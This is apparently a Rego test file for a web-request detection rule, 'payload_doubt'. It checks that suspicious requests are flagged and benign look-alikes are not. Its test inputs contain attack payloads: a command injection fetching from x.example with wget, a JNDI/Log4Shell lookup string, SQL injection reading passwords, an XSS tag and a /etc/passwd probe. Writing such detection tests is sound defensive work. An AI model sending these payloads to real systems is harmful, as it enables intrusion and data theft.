package guardd.rules.payload_doubt_test

import data.guardd.rules.payload_doubt as rule

browser := "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0"

req(method, path, query, proto, ua, ref) := {"http": {
	"method": method, "path": path, "query": query, "protocol": proto, "status": 200,
	"user_agent": ua, "referer": ref,
	"norm": {"path": path, "query": query, "user_agent": ua, "referer": ref},
	"headers": {}, "cookies": {},
}}

get(path, query) := req("GET", path, query, "HTTP/1.1", browser, "")

test_payloads_where_people_write_them if {
	every r in [
		get("/search", "q=%3Cscript%3E+tags+tutorial"),
		get("/search", "s=/etc/passwd+explained"),
		get("/api/ds/query", "expr=x%7C%7Cwget+http://x.example/a"),
		get("/", "q=1%27+union+select+password+from+users--"),
		req("GET", "/", "", "HTTP/1.1", browser, "${jndi:ldap://x.example/a}"),
		req("GET", "/", "", "HTTP/1.1", "Mozilla/5.0 <img onclick=alert(1)>", ""),
		get("/", "id=1+union+select+null,null"),
	] {
		rule.count with input as r
	}
}

test_weak_shapes if {
	every r in [
		get("/", "param=%E2%A3"),
		get("/", "a=1111111111111111111111111111111111111111111111111111111111111111111111111111111111111111111111111111111111"),
		req("FOO", "/", "", "HTTP/1.1", browser, ""),
		req("GET", "/", "", "HTTP/4.0", browser, ""),
		req("GET", "/", "", "HTTP/1.1.1", browser, ""),
		object.union(req("GET", "/", "", null, browser, ""), {"source": "nginx_log"}),
		get("/get/foo.bak", ""),
		get("/index.php~", ""),
		get("/login.php", "jsessionid=74B0CB414BD77D"),
	] {
		rule.count with input as r
	}
}

test_ignores_ordinary_requests if {
	every r in [
		get("/search", "q=select+dining+chairs"),
		get("/search", "q=javascript+the+good+parts"),
		get("/api/v1/query", "query=sum(rate(http_requests_total%7Bjob%3D%22api%22%7D%5B5m%5D))"),
		get("/app/discover", "_a=(query:(language:kuery,query:'status:500'))"),
		get("/products", "page=2&sort=-price&caf%C3%A9=1"),
		req("DELETE", "/api/items/7", "", "HTTP/1.1", "python-requests/2.31", ""),
		req("GET", "/", "", "HTTP/2.0", browser, "https://www.google.com/search?q=select+*+from+readers"),
		req("GET", "/", "", "HTTP/1.2", browser, ""),
		get("/files/release-1.2.tar.gz", ""),
		{"source": "decision", "http": {"method": "GET", "path": "/", "headers": {}, "cookies": {}}},
	] {
		not rule.count with input as r
	}
}

test_paranoia_two if {
	not rule.count with input as req("GET", "/", "", "HTTP/1.1", browser, "https://x.example/?q=select+*+from+t")
	rule.count with input as req("GET", "/", "", "HTTP/1.1", browser, "https://x.example/?q=select+*+from+t") with data.guardd.config.paranoia as 2
}
